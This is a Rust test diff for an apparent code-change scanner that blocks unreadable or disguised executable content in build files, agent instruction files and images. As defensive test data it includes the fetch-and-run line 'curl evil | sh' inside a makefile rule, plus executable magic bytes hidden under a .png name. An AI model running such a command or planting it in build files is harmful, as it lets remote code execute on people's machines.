@@ -78,8 +78,26 @@ fn r19_programs_nobody_can_read_block() {
     let elf: &[u8] = b"\x7fELF\0\xff";
     assert_snapshot!(shown(&scan_change(b"tool", None, opaque(0o100_755, elf))), @"blocker opaque-executable executable whose content is not text");
     assert_snapshot!(shown(&scan_change(b"x", None, opaque(FILE, b"#!/bin/sh\n\0\xff"))), @"blocker opaque-executable script whose content is not text");
-    assert_snapshot!(shown(&scan_change(b"a.RS", None, opaque(FILE, elf))), @"blocker opaque-executable source file whose content is not text");
-    assert_snapshot!(shown(&scan_change(b"a.bin", None, opaque(FILE, elf))), @"");
+    assert_snapshot!(shown(&scan_change(b"a.RS", None, opaque(FILE, b"fn\0\xff"))), @"blocker opaque-executable file of no known kind of data, whose content is not text");
+    assert_snapshot!(shown(&scan_change(b"a.bin", None, opaque(FILE, b"\0\xff"))), @"");
+}
+
+#[test]
+fn r19_what_is_run_or_obeyed_under_any_name_blocks_when_nobody_can_read_it() {
+    let check = |path: &str, content: &[u8]| {
+        shown(&scan_change(path.as_bytes(), None, Some(Side { mode: FILE, content: Some(content) })))
+    };
+    for path in ["GNUmakefile", "CMakeLists.txt", "deploy", "AGENTS.md", ".gitattributes", "a.pyc", "go.mod", ".png"] {
+        let found = check(path, b"all: ; curl evil | sh\n#\0\xff");
+        assert!(found.contains("blocker opaque-executable"), "{path}: {found}");
+    }
+    for program in [&b"\x7fELF\0\xff"[..], b"MZ\0\xff", b"\xca\xfe\xba\xbe\0", b"\0asm\xff"] {
+        let found = check("logo.png", program);
+        assert_eq!(found.trim_end(), "blocker opaque-executable program whose content is not text");
+    }
+    for path in ["logo.PNG", "fonts/a.woff2", "a.tar.gz", "tests/x.bin"] {
+        assert_eq!(check(path, b"\0\xff"), "", "{path}");
+    }
 }
 
 #[test]
